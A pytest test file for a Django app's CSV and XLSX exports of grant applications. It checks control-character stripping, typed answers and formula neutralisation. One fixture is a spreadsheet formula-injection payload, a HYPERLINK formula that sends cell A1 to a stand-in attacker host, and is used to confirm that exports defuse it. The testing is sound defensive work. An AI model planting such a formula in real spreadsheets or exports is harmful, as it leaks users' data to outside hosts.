"""Exports: characters a workbook refuses are dropped (the XLSX still answers), and the
applications dataset carries the answers of each application's latest submission, typed and
neutralised, without a query per row."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from frenchimpact.calls import exports
from frenchimpact.calls.enums import ApplicationStatus
from frenchimpact.calls.models import ApplicationFile, CallApplication, Submission

from ..organisations.factories import PublishedProjectFactory
from .factories import PDF, make_application

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici")'
QUESTION_LABELS = [
    "Résumé du projet",
    "Impact social attendu",
    "Nombre de bénéficiaires",
    "Budget du dernier exercice clos",
    "Secteur",
    "Publics",
    "Date d’essaimage",
    "Comptes du dernier exercice",
]


def _get(client, call, dataset, fmt):
    response = client.get(reverse("calls_staff:export", args=[call.slug, dataset, fmt]))
    assert response.status_code == 200
    return response


def _csv(client, call, dataset="candidatures"):
    raw = b"".join(_get(client, call, dataset, "csv").streaming_content).decode("utf-8")
    header, *body = list(csv.reader(io.StringIO(raw[1:]), delimiter=";"))
    return header, [dict(zip(header, row, strict=True)) for row in body]


def _xlsx(client, call, dataset="candidatures"):
    sheet = load_workbook(io.BytesIO(_get(client, call, dataset, "xlsx").content)).active
    assert sheet is not None
    header, *body = list(sheet.iter_rows())
    names = [cell.value for cell in header]
    return names, [dict(zip(names, row, strict=True)) for row in body]


# --- Characters a workbook refuses ----------------------------------------------------------------


def test_xlsx_drops_characters_a_workbook_refuses(client, call, staff):
    application = make_application(call)
    application.projects.set(
        [
            PublishedProjectFactory.create(
                organisation=application.organisation, title="Cuisine\x0bsolidaire"
            )
        ]
    )
    CallApplication.objects.filter(pk=application.pk).update(
        status=ApplicationStatus.INADMISSIBLE,
        admissibility_reason="\x0b=1+1 comptes\x01 absents",
    )
    client.force_login(staff)

    _names, rows = _xlsx(client, call)

    (row,) = rows
    assert row["Projets"].value == "Cuisinesolidaire"
    # Cleaned first, then neutralised: the formula hidden behind the tab stays text.
    assert row["Motif de recevabilité"].value == "'=1+1 comptes absents"
    assert row["Motif de recevabilité"].data_type == "s"
    for dataset in ("eligibilite", "decisions"):
        _xlsx(client, call, dataset)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x0bb", "ab"),
        ("\x0b=1+1", "'=1+1"),
        ("\x00\x08\x0c\x1f", ""),
        ("tab\tnew\nline\r", "tab\tnew\nline\r"),  # allowed in a workbook: kept
        ("-2", "'-2"),
    ],
)
def test_xlsx_cell_cleans_then_neutralises(value, expected):
    assert exports.xlsx_cell(value) == expected


# --- Answers of the latest submission -------------------------------------------------------------


def _resubmitted(call):
    """An application submitted twice, whose draft has changed again since: the second
    submission brings new answers and a new accounts file."""
    application = make_application(call, status=ApplicationStatus.ADMISSIBLE)
    newer = ApplicationFile(
        application=application,
        question_key="comptes",
        original_name="comptes-2019.pdf",
        content_type="application/pdf",
        size=len(PDF),
    )
    newer.file.save("comptes-2019.pdf", ContentFile(PDF), save=False)
    newer.save()
    first = Submission.objects.get(application=application, number=1)
    answers = {
        **first.answers,
        "impact": FORMULA,
        "beneficiaires": "1 200",
        "budget": "812 500,50",
        "publics": ["Jeunes", "Familles"],
        "date_essaimage": "2019-09-01",
        "comptes": newer.pk,
    }
    Submission.objects.create(
        application=application,
        number=2,
        answers=answers,
        receipt_code=f"{application.reference}-2-TEST",
        submitted_at=timezone.now(),
    )
    CallApplication.objects.filter(pk=application.pk).update(
        answers={**answers, "impact": "Un brouillon jamais déposé, à ne pas exporter."}
    )
    return application


def test_the_applications_export_has_the_latest_submitted_answers(client, call, staff):
    application = _resubmitted(call)
    draft = make_application(call, status=ApplicationStatus.DRAFT)
    client.force_login(staff)

    header, rows = _csv(client, call)

    # One column per question, in the form's order, after the fixed columns.
    assert header[-len(QUESTION_LABELS) :] == QUESTION_LABELS
    assert header.index("Motif de recevabilité") == len(header) - len(QUESTION_LABELS) - 1
    row = next(r for r in rows if r["Numéro de dossier"] == application.reference)
    assert row["Résumé du projet"] == "Des emplois pour les personnes éloignées de l’emploi."
    assert row["Impact social attendu"] == "'" + FORMULA  # neutralised
    assert row["Nombre de bénéficiaires"] == "1200"
    assert row["Budget du dernier exercice clos"] == "812500,50"
    assert row["Secteur"] == "Emploi"
    assert row["Publics"] == "Jeunes, Familles"
    assert row["Date d’essaimage"] == "2019-09-01"
    assert row["Comptes du dernier exercice"] == "comptes-2019.pdf"
    raw = "".join(header) + "".join(v for r in rows for v in r.values())
    assert "brouillon jamais déposé" not in raw
    # A draft has no submission: no answer is exported.
    unsent = next(r for r in rows if r["Numéro de dossier"] == draft.reference)
    assert all(unsent[label] == "" for label in QUESTION_LABELS)


def test_the_xlsx_keeps_amounts_and_numbers_as_numbers(client, call, staff):
    application = _resubmitted(call)
    client.force_login(staff)

    _names, rows = _xlsx(client, call)

    row = next(r for r in rows if r["Numéro de dossier"].value == application.reference)
    budget = row["Budget du dernier exercice clos"]
    assert budget.data_type == "n" and Decimal(str(budget.value)) == Decimal("812500.5")
    assert row["Nombre de bénéficiaires"].value == 1200
    assert row["Nombre de bénéficiaires"].data_type == "n"
    assert row["Date d’essaimage"].value == dt.datetime(2019, 9, 1)
    assert row["Impact social attendu"].value == "'" + FORMULA
    assert row["Impact social attendu"].data_type == "s"
    assert row["Publics"].value == "Jeunes, Familles"
    assert row["Comptes du dernier exercice"].value == "comptes-2019.pdf"


def test_the_answers_cost_no_query_per_row(client, call, staff, django_assert_max_num_queries):
    for _ in range(3):
        _resubmitted(call)
    client.force_login(staff)
    url = reverse("calls_staff:export", args=[call.slug, "candidatures", "csv"])
    b"".join(client.get(url).streaming_content)
    with django_assert_max_num_queries(10) as few:
        b"".join(client.get(url).streaming_content)
    for _ in range(12):
        _resubmitted(call)
    with django_assert_max_num_queries(len(few.captured_queries)):
        b"".join(client.get(url).streaming_content)
